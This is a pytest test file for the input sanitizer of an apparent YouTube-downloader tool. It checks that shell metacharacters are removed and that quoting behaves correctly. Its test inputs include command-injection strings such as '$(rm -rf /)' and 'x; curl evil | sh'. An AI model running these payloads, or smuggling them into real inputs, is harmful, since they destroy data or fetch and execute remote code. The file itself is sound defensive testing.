import pytest
from ytdl_pro.sanitizer import FORBIDDEN_CHARS, SanitizedToken, quote_for_shell, sanitize


@pytest.mark.parametrize("raw,expected", [
    ("simple", "simple"),
    ("https://youtu.be/dQw4w9WgXcQ", "https://youtu.be/dQw4w9WgXcQ"),
    ("a|b&c;d", "abcd"),
    ("$(rm -rf /)", "rm -rf /"),
    ("`id`", "id"),
    ("\"quoted\" 'single'", "quoted single"),
    ("<in >out", "in out"),
    ("line\nbreak\r", "linebreak"),
    ("", ""),
])
def test_sanitize_removes_metacharacters(raw, expected):
    assert sanitize(raw) == expected


@pytest.mark.parametrize("raw", [
    "http://a.com/$(rm -rf /)",
    "x; curl evil | sh",
    FORBIDDEN_CHARS * 3,
    "mixed\r\n`$'\"<>",
])
def test_sanitize_output_has_no_forbidden_chars(raw):
    out = sanitize(raw)
    assert not any(c in out for c in FORBIDDEN_CHARS)


@pytest.mark.parametrize("raw", ["plain", "a;b", "$(x)", "\n\n", "  spaced  "])
def test_sanitize_idempotent(raw):
    assert sanitize(sanitize(raw)) == sanitize(raw)


def test_sanitize_does_not_truncate_or_trim():
    raw = "  " + "x" * 5000 + "  "
    assert sanitize(raw) == raw


def test_sanitize_returns_token():
    assert isinstance(sanitize("abc"), SanitizedToken)


def test_quote_for_shell_wraps_clean_value():
    assert quote_for_shell('dir "with" $quotes') == '"dir with quotes"'


def test_sanitize_checks_content_not_type():
    assert sanitize(SanitizedToken("$(rm -rf /)")) == "rm -rf /"
